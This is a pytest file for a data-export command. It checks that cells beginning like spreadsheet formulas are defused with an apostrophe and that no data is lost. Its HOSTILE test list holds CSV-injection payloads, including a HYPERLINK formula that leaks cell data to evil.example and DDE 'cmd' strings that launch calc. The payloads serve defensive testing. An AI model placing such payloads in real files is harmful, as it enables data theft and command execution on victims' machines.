"""What is exported opens in a spreadsheet without running, loses nothing, and says what it is."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from click.testing import CliRunner, Result
from handoff.errors import CouldNotRun
from handoff.export import begins_a_formula, csv_of, export, read_table
from hypothesis import given
from hypothesis import strategies as some

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "-00Q000000000001",
    "=00Q000000000001",
    "\0=1",
]
HARMLESS = [
    "",
    "00Q000000000001",
    "a=b",
    "Ada, of 'Acme'",
    'a "quoted" text',
    "two\nlines",
    "1-2",
    "a@b",
    "’=",
    "x\t=1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_given_an_apostrophe_and_kept_whole(text: str) -> None:
    ((written,),) = cells(csv_of(["a"], [[text]]))[1:]
    assert written == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_as_it_was(text: str) -> None:
    ((written,),) = cells(csv_of(["a"], [[text]]))[1:]
    assert written == text


def test_typed_values_are_written_by_their_type() -> None:
    row = [-5, Decimal("-12.50"), -0.5, True, False, None, datetime(2026, 6, 30, 18), date(2026, 6, 30), ["=1", "b"]]
    text = csv_of([f"c{number}" for number in range(len(row))], [row])
    assert text.splitlines()[1] == (
        '-5,-12.50,-0.5,"true","false","","2026-06-30T18:00:00Z","2026-06-30","[""=1"", ""b""]"'
    )


@given(some.lists(some.lists(some.text(), min_size=3, max_size=3), max_size=5))
def test_no_cell_of_any_text_begins_a_formula_and_none_is_lost(rows: list[list[str]]) -> None:
    read = cells(csv_of(["a", "b", "c"], rows))[1:]
    assert [
        [cell.removeprefix("'") if begins_a_formula(was) else cell for cell, was in zip(out, row, strict=True)]
        for out, row in zip(read, rows, strict=True)
    ] == rows
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in read for cell in row)


@pytest.fixture()
def warehouse(tmp_path: Path) -> Path:
    """A publication with hostile ids, as a company with free ids has them."""
    version = tmp_path / "warehouse/versions/one"
    version.mkdir(parents=True)
    (version / "run.json").write_text('{"run_id": "one", "as_of": "2026-06-30T18:00:00Z"}')
    (tmp_path / "warehouse/current").symlink_to("versions/one")
    with duckdb.connect(str(version / "handoff.duckdb")) as database:
        database.execute("create schema marts")
        database.execute(
            "create table marts.export_crm_reminders as select * from (values "
            "('=cmd|1', cast(-3.5 as decimal(9,2)), timestamp '2026-06-30 18:00:00', '@home'), "
            "('00Q1', 71, null, null)) as rows(crm_id, engagement_score, due_at, top_reasons)"
        )
        database.execute("create table marts.rpt_a as select 1 as one")
    return tmp_path / "warehouse"


def call(*arguments: object) -> Result:
    return CliRunner().invoke(export, [str(argument) for argument in arguments])


def test_the_csv_of_a_publication(warehouse: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    done = call("export_crm_reminders", "--warehouse", warehouse, "--out", out)
    assert done.exit_code == 0 and done.stdout == f"{out}\n"
    assert "2 cells begin like a formula" in done.stderr
    assert out.read_text(encoding="utf-8") == (
        '"crm_id","engagement_score","due_at","top_reasons"\n'
        '"00Q1",71.00,"",""\n'
        '"\'=cmd|1",-3.50,"2026-06-30T18:00:00Z","\'@home"\n'
    )
    assert stat.S_IMODE(out.stat().st_mode) & 0o027 == 0
    assert call("export_crm_reminders", "--warehouse", warehouse).stdout == out.read_text(encoding="utf-8")


def test_json_has_every_value_exactly(warehouse: Path, tmp_path: Path) -> None:
    document = json.loads(call("export_crm_reminders", "--warehouse", warehouse, "--json").stdout)
    assert (document["run_id"], document["as_of"], document["row_count"]) == ("one", "2026-06-30T18:00:00Z", 2)
    assert document["rows"][1] == {
        "crm_id": "=cmd|1",
        "engagement_score": -3.5,
        "due_at": "2026-06-30T18:00:00Z",
        "top_reasons": "@home",
    }
    out = tmp_path / "out.csv"
    told: dict[str, Any] = json.loads(
        call("export_crm_reminders", "--warehouse", warehouse, "--out", out, "--json").stdout
    )
    assert (told["file"], told["guarded_cells"], "rows" in told) == (str(out), 2, False)


def test_without_a_name_it_lists_what_is_written_back(warehouse: Path) -> None:
    listed = json.loads(call("--warehouse", warehouse, "--json").stdout)
    columns = ["crm_id", "engagement_score", "due_at", "top_reasons"]
    assert listed == [{"export": "export_crm_reminders", "rows": 2, "columns": columns}]
    assert "export_crm_reminders: 2 rows" in call("--warehouse", warehouse).stdout


def test_what_is_not_there_is_told(warehouse: Path, tmp_path: Path) -> None:
    with pytest.raises(CouldNotRun) as error:
        read_table(warehouse, "export_crm_reminder")
    assert error.value.hint == "Did you mean export_crm_reminders?"
    with pytest.raises(CouldNotRun):
        read_table(warehouse, "information_schema.tables")
    with pytest.raises(CouldNotRun, match="Nothing is published"):
        read_table(tmp_path, "rpt_a")
    unwritable = call("rpt_a", "--warehouse", warehouse, "--out", tmp_path / "nowhere" / "a.csv")
    assert isinstance(unwritable.exception, CouldNotRun) and "cannot be written" in unwritable.exception.message


def test_the_demo_exports_score_grade_reasons_action_and_due(demo_warehouse: Path) -> None:
    table = read_table(demo_warehouse, "export_salesforce_leads")
    assert {
        "crm_id",
        "fit_score",
        "engagement_score",
        "scored_at",
        "grade",
        "top_reasons",
        "next_action",
        "due_at",
    } <= set(table.columns)
    rows = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
    assert len(rows) > 100 and any(row["due_at"] for row in rows)
    assert all(row["grade"] and row["fit_score"] is not None and row["next_action"] for row in rows)
    # the score as it stood when it last changed, from the history itself
    history = duckdb.from_parquet(str(demo_warehouse / "marts" / "fct_lead_score_history.parquet"))
    told = (
        history.filter("model_status = 'active' and valid_from <= timestamp '2026-06-30 18:00:00'")
        .aggregate("person_id, max(valid_from)")
        .fetchall()
    )
    last = dict(told)
    assert [row["crm_id"] for row in rows if row["scored_at"] != last[row["person_id"]]] == []
